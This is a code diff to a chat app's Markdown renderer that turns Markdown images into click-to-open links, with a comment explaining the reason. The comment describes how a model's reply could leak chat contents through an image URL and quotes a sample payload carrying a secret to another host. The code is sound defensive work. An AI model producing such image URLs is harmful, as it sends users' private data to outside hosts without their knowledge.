@@ -169,7 +169,7 @@ _OPENS_HTML = re.compile(r"<(?=[A-Za-z/!?])|&(?=#?[A-Za-z0-9]+;)")
 
 def shown_literally(text: str) -> str:
     """``text`` (Markdown) with its HTML marked to show as typed (MARK)."""
-    if "<" not in text and "&" not in text:
+    if "<" not in text and "&" not in text and "![" not in text:
         return text
     out, prose, fence = [], [], None
     for line in text.splitlines(keepends=True):
@@ -190,10 +190,50 @@ def shown_literally(text: str) -> str:
 def _mark_prose(text: str) -> str:
     parts, at = [], 0
     for kept in _KEPT.finditer(text):
-        parts += [_OPENS_HTML.sub(lambda m: m.group(0) + MARK, text[at:kept.start()]), kept.group(0)]
+        parts += [_mark_span(text[at:kept.start()]), kept.group(0)]
         at = kept.end()
-    parts.append(_OPENS_HTML.sub(lambda m: m.group(0) + MARK, text[at:]))
+    parts.append(_mark_span(text[at:]))
     return "".join(parts)
+
+
+def _mark_span(text: str) -> str:
+    return _OPENS_HTML.sub(lambda m: m.group(0) + MARK, images_as_links(text))
+
+
+# An image in a message is not loaded: a model's reply (or a pasted text) could name a URL that
+# carries what the chat says to another host ("![x](http://host/p.png?secret=PIN)" was fetched as
+# soon as the chat opened; issue 41, item 6). A Markdown image shows as a link to it, "🖼 x · image
+# from host — click to open", which a click opens; its alt text sits between two IMAGE_MARKs
+# (invisible), so that ``typed_text`` turns the link back into the image as typed (Copy, ✎). Any
+# other "![" (a reference image, one this pattern does not read) gets a MARK after its "!": no
+# longer an image. HTML <img> is shown as typed, as all HTML in a message; the page's
+# Content-Security-Policy (app/page_csp.py) is the second guard. Outside code, as the HTML marks.
+IMAGE_MARK = "\u2062"
+_IMAGE = re.compile(r"!\[((?:[^\[\]\\\n]|\\.){0,500})\]\(([^()\n]*)\)")
+_IMAGE_LINK = re.compile(r"\[🖼 \u2062([^\u2062]*)\u2062[^\]\u2062]*\]\(")  # what typed_text turns back
+
+
+def images_as_links(text: str) -> str:
+    """``text`` (Markdown prose) with each image as a link to it (see above)."""
+    if "![" not in text:
+        return text
+    parts, at = [], 0
+    for m in _IMAGE.finditer(text):
+        before = text[at:m.start()].replace("![", "!" + MARK + "[")
+        before += MARK if before.endswith("!") else ""  # "!" and the link would be an image again
+        parts += [before, _image_link(m.group(1), m.group(2))]
+        at = m.end()
+    parts.append(text[at:].replace("![", "!" + MARK + "["))
+    return "".join(parts)
+
+
+def _image_link(alt: str, inside: str) -> str:
+    from urllib.parse import urlsplit
+
+    url = (inside.split() or [""])[0].strip("<>")
+    host = urlsplit(url).hostname if "//" in url else None
+    where = f"image from {markdown_literal(host)}" if host else "image"
+    return f"[🖼 {IMAGE_MARK}{alt}{IMAGE_MARK}{' · ' if alt.strip() else ''}{where} — click to open]({inside})"
 
 
 # A name, a path or a reason shown inside a sentence of Markdown (the models panel, the import's
@@ -213,7 +253,9 @@ def markdown_literal(text) -> str:
 
 def typed_text(shown: str) -> str:
     """A message's text as the user typed it, from the text the page showed (``shown_literally``)."""
-    return shown.replace("<" + MARK, "<").replace("&" + MARK, "&")
+    if IMAGE_MARK in shown:
+        shown = _IMAGE_LINK.sub(lambda m: "![" + m.group(1) + "](", shown)
+    return shown.replace("<" + MARK, "<").replace("&" + MARK, "&").replace("!" + MARK, "!")
 
 
 THINK_OPEN, THINK_CLOSE = "<think>", "</think>"
